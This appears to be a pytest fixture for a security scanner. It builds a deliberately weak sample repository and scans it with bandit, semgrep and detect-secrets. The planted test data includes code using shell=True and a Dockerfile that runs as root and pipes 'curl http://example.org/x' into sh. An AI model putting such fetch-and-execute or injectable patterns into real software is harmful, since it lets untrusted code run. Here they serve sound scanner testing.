"""One small weak application, scanned once with everything, for the tests that only look at what came of it."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from .command import Ran, scangate
from .tree import CLEAN, WEAK, policy, repository


@dataclass(frozen=True, slots=True)
class Scanned:
    """A tree, the policy, what the scan printed, and the folder with its reports."""

    tree: Path
    policy: Path
    ran: Ran
    out: Path


@pytest.fixture(scope="session")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> Scanned:
    root = tmp_path_factory.mktemp("scanned")
    files: dict[str, str | bytes] = {
        "app.py": WEAK,
        "waived.py": WEAK.replace("shell=True)", "shell=True)  # nosec"),
        "adding.py": CLEAN,
        "broken.py": "def f(:\n",
        "Dockerfile": "FROM python:3.12\nUSER root\nRUN curl http://example.org/x | sh\n",
    }
    tree = repository(root / "tree", files)
    rules = policy(root / "policy.yaml", "bandit", "semgrep", "detect-secrets")
    out = root / "out"
    ran = scangate("scan", tree, "--policy", rules, "--output-dir", out, "--report", f"env={out / 'env'}", cwd=root)
    return Scanned(tree, rules, ran, out)
